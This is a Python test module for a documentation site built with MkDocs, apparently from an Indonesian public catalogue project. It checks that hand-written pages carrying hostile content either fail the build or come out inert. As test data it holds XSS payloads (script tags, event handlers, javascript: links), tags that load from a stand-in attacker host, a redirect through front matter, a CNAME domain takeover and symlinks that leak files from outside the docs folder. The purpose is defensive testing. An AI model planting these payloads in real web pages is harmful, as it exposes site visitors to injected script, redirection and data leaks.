"""Pages written by hand in `docs/`: what a slip or a proposal can put there. Each refusal is that of a whole build."""

import re
from collections.abc import Callable

from catalogues import ROOT
from hostile_case import CANARY, SECRET, Box, acts, group, must
from hostile_page import EVIL, Page
from hostile_private import NIK

#: How strict the living site is with links.
_STRICT = re.search(r"(?m)^validation:\n(?:  .*\n)+", (ROOT / "mkdocs.yml").read_text("utf-8")).group()


_HEAD = "---\ntitle: Baru\ndescription: Isi\n---\n\n"


def _settings(box: Box) -> None:
    box.put({"mkdocs.yml": (box.root / "mkdocs.yml").read_text("utf-8") + _STRICT})


def _no_build(name: str, mechanism: str, files: dict[str, str | bytes] | Callable[[Box], None]):
    """The build is refused in a sentence that names the page, and leaves no site."""

    def act(box: Box) -> None:
        _settings(box)
        named = ["bocor"] if callable(files) else list(files)
        if callable(files):
            files(box)
        else:
            box.put({f"docs/{path}": content for path, content in files.items()})
        done = box.build()
        must(done.code in (1, 2), f"exit {done.code}")
        must(not (box.root / "site").exists(), "a site is there all the same")
        must(any(path in done.err for path in named) and NIK not in done.err, f"said: {done.err}")

    return acts("refused", name, mechanism, act)


def _page(name: str, mechanism: str, body: str):
    return _no_build(name, mechanism, {"baru.md": f"{_HEAD}# Baru\n\n{body}\n"})


def _does_nothing(name: str, mechanism: str, body: str, *shows: str, front: str = "title: Baru\ndescription: Isi"):
    """The page is built and holds the text as text."""

    def act(box: Box) -> None:
        box.put({"docs/baru.md": f"---\n{front}\n---\n\n# Baru\n\n{body}\n"})
        done = box.build()
        must(done.code == 0, f"exit {done.code}: {done.err[-300:]}")
        source = (box.root / "site/baru/index.html").read_text("utf-8")
        page = Page(source)
        must(not page.deeds and EVIL not in re.sub(r">[^<]*<", "><", source), "; ".join(page.deeds))
        for text in shows:
            must(text in page.text, f"not shown: {text}")

    return acts("inert", name, mechanism, act)


def _ordinary(box: Box) -> None:
    """A page with all that pages have."""
    _settings(box)
    body = "## Bagian\n\nLihat [bagian](#bagian), [beranda](https://contoh.go.id/) dan [surel](mailto:kantor@contoh.go.id).\n"
    box.put(
        {
            "docs/baru.md": f"---\ntitle: Baru & lama\ndescription: Isi\n---\n\n# Baru\n\n{body}\n| a | b |\n|---|---|\n| 1 < 2 | `<b>` |\n"
        }
    )
    done = box.build()
    must(done.code == 0, done.err)
    page = Page((box.root / "site/baru/index.html").read_text("utf-8"))
    must(not page.deeds and "1 < 2 <b>" in page.text, f"{page.deeds} {page.text}")


def _left_out(name: str, mechanism: str, path: str, content: str | bytes):
    """A file that must not be on the site, whatever becomes of the build."""

    def act(box: Box) -> None:
        box.put({f"docs/{path}": content})
        box.build()
        must(not (box.root / "site" / path).exists(), f"{path} is published")

    return acts("inert", name, mechanism, act)


def _link(path: str, target: str):
    def make(box: Box) -> None:
        (box.root / "docs" / path).symlink_to(box.outside / target)

    return make


def _circle(box: Box) -> None:
    (box.root / "docs/bocor").symlink_to(box.root / "docs", target_is_directory=True)


def _leak(box: Box) -> None:
    """A folder that leads out: nothing of what lies there comes out."""
    (box.outside / "luar").mkdir()
    (box.outside / "luar/isi.txt").write_text(SECRET)
    (box.root / "docs/luar").symlink_to(box.outside / "luar")
    done = box.build()
    must(done.code == 1 and "docs/luar" in done.err, f"exit {done.code}: {done.err}")
    published = (path for path in (box.root / "site").rglob("*") if path.is_file())
    must(not any(SECRET.encode() in path.read_bytes() for path in published), "what lies outside is published")


def _written(box: Box) -> None:
    """The same in the folder that `katalog write` fills."""
    (box.root / "docs/bocor.txt").symlink_to(box.outside / CANARY)
    done = box.katalog("write", "keluar", "--as-of", "2026-11-24")
    must(done.code == 1 and "docs/bocor.txt" in done.err, f"exit {done.code}: {done.err}")
    made = (path for path in (box.root / "keluar").rglob("*") if path.is_file())
    must(not any(SECRET.encode() in path.read_bytes() for path in made), "what lies outside is written")


WRITTEN = group(
    "docs",
    [
        _page("skrip", "a script", "<script>alert(1)</script>"),
        _page("skrip-asing", "a script of another host", f"<script src=https://{EVIL}/x.js></script>"),
        _page("bingkai", "a frame", f'<iframe src="https://{EVIL}/"></iframe>'),
        _page("gagang", "an event handler", "<p onclick=alert(1)>isi</p>"),
        _page("javascript", "an address that runs", "[buka](javascript:alert(1))"),
        _page("gambar-asing", "a picture of another host", f"![x](https://{EVIL}/s.png)"),
        _page("gambar-asing-html", "a picture of another host as HTML", f"<IMG\nSRC = '//{EVIL}/s.png'>"),
        _page("gaya-asing", "a style that fetches", f"<style>@import 'https://{EVIL}/x.css'</style>"),
        _page("segar", "leading away by meta", f'<meta http-equiv="refresh" content="0;url=https://{EVIL}">'),
        _page("dasar", "another base for all links", f"<base href=https://{EVIL}/>"),
        _page("formulir", "a form that sends elsewhere", f"<form action=https://{EVIL}><input name=q></form>"),
        _page("svg", "a drawing that runs", "<svg onload=alert(1)></svg>"),
        _page("objek", "an embedded object", f"<object data=https://{EVIL}/x></object>"),
        _page("tautan-putus", "a link that leads nowhere", "[buka](tidak-ada.md)"),
        _page("jangkar-putus", "a link to a part that is not there", "[buka](#tidak-ada)"),
        _page("nik", "a number of identity", f"Hubungi Ani, KTP {NIK}."),
        _page("ponsel", "a mobile that is not the service number of the settings", "Hubungi Ani, 081300000000."),
        _no_build("muka-templat", "front matter that chooses another template", {"baru.md": f"---\ntitle: x\ndescription: y\ntemplate: redirect.html\nlocation: https://{EVIL}\n---\n\n# x\n"}),
        _does_nothing("muka-judul", "a title that leaves its element", "isi", "isi", front="title: x</title><script>alert(1)</script>\ndescription: y"),
        _does_nothing("muka-keterangan", "a description that leaves its attribute", "isi", "isi", front="title: Baru\ndescription: '\"><script>alert(1)</script>'"),
        _no_build("muka-data", "structured data of a stranger", {"baru.md": "---\ntitle: x\ndescription: y\nstructured: {'@id': javascript:x}\n---\n\n# x\n"}),
        _no_build("muka-angka", "front matter that is no text", {"baru.md": "---\ntitle: 5\ndescription: [y]\n---\n\n# x\n"}),
        _no_build("html-lepas", "a page that is no Markdown", {"lepas.html": "<script>alert(1)</script>"}),
        _no_build("js-lepas", "a script as a file", {"lepas.js": "alert(1)"}),
        _no_build("svg-lepas", "a drawing that runs, as a file", {"lepas.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"}),
        _no_build("aset-tema", "a file in place of the program's own script", {"assets/boot.js": "alert(1)"}),
        _no_build("cname", "a file that moves the site to another domain", {"CNAME": EVIL}),
        _no_build("menutupi", "a page in place of a generated one", {"inovasi/index.md": f"{_HEAD}# Lain\n"}),
        _no_build("menutupi-berkas", "a file in place of a generated one", {"data/inovasi.json": "{}"}),
        _no_build("latin-1", "an older encoding", {"baru.md": f"{_HEAD}# Café\n".encode("latin-1")}),
        _no_build("tautan-berkas", "a link to a file outside", _link("bocor.txt", CANARY)),
        _no_build("tautan-halaman", "a link to a page outside", _link("bocor.md", CANARY)),
        _no_build("tautan-sembunyi", "a hidden link to a file outside", _link(".bocor", CANARY)),
        _no_build("tautan-dalam", "a link that leads in circles", _circle),
        _no_build("muka-lain", "front matter of a page with another ending", {"baru.markdown": f"---\ntitle: x\ndescription: y\ntemplate: redirect.html\nlocation: https://{EVIL}\n---\n\n# x\n"}),
        _no_build("muka-baris-lama", "front matter with the line ends of old machines", {"baru.md": f"---\rtitle: x\rdescription: y\rtemplate: redirect.html\rlocation: https://{EVIL}\r---\r\r# x\r"}),
        acts("refused", "tautan-folder", "a link to a folder outside", _leak),
        acts("refused", "tautan-tulis", "a link to a file outside, for another engine", _written),
        _does_nothing("templat", "a template language", "{{ config.site_url }} {% for x in y %} {# z #}", "{{ config.site_url }}"),
        _does_nothing("cuplikan", "snippets that read a file", '--8<-- "mkdocs.yml"', "mkdocs.yml"),
        _no_build("muka-sembunyi", "front matter of a kind that the theme does not expect", {"baru.md": "---\ntitle: x\ndescription: y\nicon: x/../../y\n---\n\n# x\n"}),
        _does_nothing("atribut", "attribute lists", "isi {: onclick=alert(1) }", "{: onclick=alert(1) }"),
        acts("honest", "halaman-biasa", "links, a table and code", _ordinary),
        _left_out("titik", "a hidden file", ".env", "KUNCI=x"),
        _left_out("templates", "a folder that the engine leaves out", "templates/x.html", "<script>alert(1)</script>"),
    ],
)  # fmt: skip
